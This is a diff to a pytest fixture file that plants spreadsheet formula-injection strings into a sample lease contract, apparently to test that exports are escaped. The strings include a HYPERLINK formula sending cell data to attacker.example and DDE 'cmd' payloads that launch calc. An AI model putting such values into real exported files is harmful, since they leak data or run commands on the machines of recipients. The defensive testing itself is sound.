@@ -47,3 +47,31 @@ def workbook(tmp_path: Path) -> Callable[..., Path]:
         return path
 
     return make
+
+
+# Text a spreadsheet program would run as a formula (or show as an error), planted in one contract.
+HOSTILE_ID = "L-2025-002"
+HOSTILE = {
+    "name: 上海陆家嘴置业发展有限公司": '=HYPERLINK("https://attacker.example/?d="&D3,"ACME")',
+    "title: 陆家嘴办公室租赁合同（18 层）": "+cmd|' /C calc'!A0",
+    "title: 交房": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "evidence: 房屋交接确认书": "-2+3",
+    "evidence: 银行回单 20250218": "'=already quoted",
+    "title: 季度租金": "#N/A",
+}
+
+
+@pytest.fixture
+def hostile_portfolio(copy_portfolio: Callable[[Path], Path]) -> Path:
+    """The example portfolio with formula-looking text in a counterparty, titles and evidence of HOSTILE_ID."""
+    from pactwatch.escape.yaml import scalar_text
+
+    root = copy_portfolio(REPO_ROOT)
+    path = root / "contracts" / "lease" / f"{HOSTILE_ID}.yaml"
+    text = path.read_text(encoding="utf-8")
+    for line, value in HOSTILE.items():
+        assert line in text, line
+        key = line.split(":", 1)[0]
+        text = text.replace(line, f"{key}: {scalar_text(value)}", 1)
+    path.write_text(text, encoding="utf-8")
+    return root
